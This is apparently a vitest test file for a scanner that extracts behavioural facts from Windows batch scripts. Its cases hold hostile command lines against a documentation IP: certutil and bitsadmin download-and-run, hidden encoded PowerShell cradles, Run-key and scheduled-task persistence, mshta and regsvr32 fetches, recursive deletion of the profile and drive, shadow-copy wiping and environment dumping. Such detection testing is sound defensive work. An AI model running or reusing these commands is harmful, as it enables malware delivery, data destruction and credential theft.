import { describe, expect, it } from 'vitest';
import type { Fact, Unit } from '../../facts.js';
import type { Grammar } from '../../load-grammars.js';
import { batchExtractor } from './extract-batch-facts.js';

/** Documentation addresses and example domains only: nothing here is ever run. */
const HOST = '203.0.113.9';
const enc = (command: string): string => Buffer.from(command, 'utf16le').toString('base64');

type Partial = Record<string, unknown>;
const proc = (program: string, extra: Partial = {}): Partial => ({ kind: 'process', program, ...extra });
const net = (op: string, target: string, extra: Partial = {}): Partial => ({
  kind: 'network',
  op,
  target,
  ...extra,
});
const file = (op: string, path: string, extra: Partial = {}): Partial => ({
  kind: 'file',
  op,
  path,
  ...extra,
});
const exec = (api: string, extra: Partial = {}): Partial => ({ kind: 'exec', api, ...extra });

type Case = [string, string, Partial[], Partial[]?];

const NO_GRAMMAR = undefined as unknown as Grammar;

function extract(text: string, file = 'scripts/x.bat'): Fact[] {
  const unit: Unit = { file, inPackage: file, language: 'batch', surface: 'script', text, firstLine: 1 };
  return batchExtractor.extract(unit, NO_GRAMMAR, { shell: () => [] });
}

const CASES: Case[] = [
  [
    'BITS download then run by path',
    `@echo off\nbitsadmin /transfer job /download /priority high http://${HOST}/u.exe %APPDATA%\\u.exe\n%APPDATA%\\u.exe /silent`,
    [
      net('fetch', `http://${HOST}/u.exe`, { api: 'bitsadmin' }),
      file('write', '%APPDATA%\\u.exe', { content: ['network'] }),
      proc('u', { runsFile: '%APPDATA%\\u.exe', line: 3 }),
      exec('run-file', { input: ['network'] }),
    ],
  ],
  [
    'certutil download, decode, start',
    `certutil -urlcache -split -f http://${HOST}/p.txt p.txt\ncertutil -decode p.txt p.exe\nstart "" p.exe`,
    [
      file('write', 'p.exe', { content: ['network', 'decoded'] }),
      proc('p', { runsFile: 'p.exe', line: 3 }),
      exec('run-file', { input: ['network', 'decoded'] }),
    ],
  ],
  [
    'certutil download and run on one line through a variable',
    `set OUT=%TEMP%\\u.exe\ncertutil.exe -urlcache -split -f http://${HOST}/u.exe %OUT% && %OUT%`,
    [
      file('write', '%TEMP%\\u.exe', { content: ['network'] }),
      exec('run-file', { input: ['network'], line: 2 }),
    ],
  ],
  [
    'benign: certutil hashes a file, vssadmin lists shadows',
    'certutil -hashfile setup.exe SHA256\nvssadmin list shadows',
    [proc('certutil'), proc('vssadmin')],
    [{ kind: 'network' }, { kind: 'file', op: 'delete' }],
  ],
  [
    'the profile deleted through a variable, and a drive',
    'set "P=%USERPROFILE%"\nrd /s /q "%P%"\ndel /s /q C:\\*',
    [file('delete', '%USERPROFILE%', { recursive: true }), file('delete', 'C:\\*', { recursive: true })],
  ],
  [
    'shadow copies deleted, boot recovery switched off',
    'wmic shadowcopy delete /nointeractive\nbcdedit /set {default} recoveryenabled No',
    [
      file('delete', '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy*'),
      proc('bcdedit', { args: ['/set', '{default}', 'recoveryenabled', 'No'] }),
    ],
  ],
  [
    'a hidden encoded download cradle handed to PowerShell',
    `@echo off\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${enc(`iwr http://${HOST}/a.ps1 | iex`)}`,
    [
      exec('powershell -EncodedCommand', { input: ['decoded'] }),
      net('fetch', `http://${HOST}/a.ps1`),
      exec('Invoke-Expression', { input: ['network', 'decoded'] }),
    ],
  ],
  [
    'start with a switch before the empty window title',
    `start /b "" powershell -WindowStyle Hidden -EncodedCommand ${enc(`iwr http://${HOST}/a.ps1 | iex`)}`,
    [
      exec('powershell -EncodedCommand', { input: ['decoded'] }),
      exec('Invoke-Expression', { input: ['network', 'decoded'] }),
    ],
  ],
  [
    'a Run key whose data quotes a PowerShell cradle',
    `reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Upd /t REG_SZ /d "powershell -w hidden -c \\"iex (iwr http://${HOST}/u.ps1)\\"" /f`,
    [
      file('write', 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd', {
        contentText: `powershell -w hidden -c "iex (iwr http://${HOST}/u.ps1)"`,
      }),
    ],
  ],
  [
    'scheduled task and scriptlet',
    `schtasks /create /sc minute /mo 5 /tn Upd /tr "cmd /c curl -s http://${HOST}/p | sh"\nregsvr32 /s /n /u /i:http://${HOST}/a.sct scrobj.dll`,
    [
      file('write', 'C:\\Windows\\System32\\Tasks\\Upd', {
        contentText: `cmd /c curl -s http://${HOST}/p | sh`,
      }),
      exec('regsvr32', { input: ['network'] }),
    ],
  ],
  [
    'environment dumped into a file; a typed password',
    'set > %TEMP%\\env.txt\nset /p PW=Password: \necho %PW% > %TEMP%\\p.txt',
    [
      { kind: 'env', op: 'dump' },
      file('write', '%TEMP%\\env.txt', { content: ['environment'] }),
      file('write', '%TEMP%\\p.txt', { content: ['user-data'] }),
    ],
  ],
  [
    'for /f runs its command; if runs its branch; & chains',
    `for /f "delims=" %%i in ('whoami') do nslookup %%i.x.example\nif exist C:\\x (del /q C:\\x) else (echo none)\necho a & mshta http://${HOST}/b.hta`,
    [proc('whoami'), file('delete', 'C:\\x'), exec('mshta', { input: ['network'] })],
  ],
  ['a batch file that starts itself', ':loop\nstart "" %0\ngoto loop', [proc('x', { runsSelf: true })]],
];

describe('batchExtractor', () => {
  it.each(CASES)('%s', (_name, source, present, absent = []) => {
    const facts = extract(source);
    for (const p of present) expect(facts, JSON.stringify(p)).toContainEqual(expect.objectContaining(p));
    for (const a of absent)
      expect(facts, `absent ${JSON.stringify(a)}`).not.toContainEqual(expect.objectContaining(a));
  });

  it('skips comments and labels, and survives hostile input', () => {
    expect(extract('rem curl http://x.example/a\n:: mshta http://x.example\n:label\n')).toEqual([]);
    expect(() => extract(`${'^'.repeat(10_000)}\n"${'%'.repeat(5000)}\n\u0000`)).not.toThrow();
  });
});
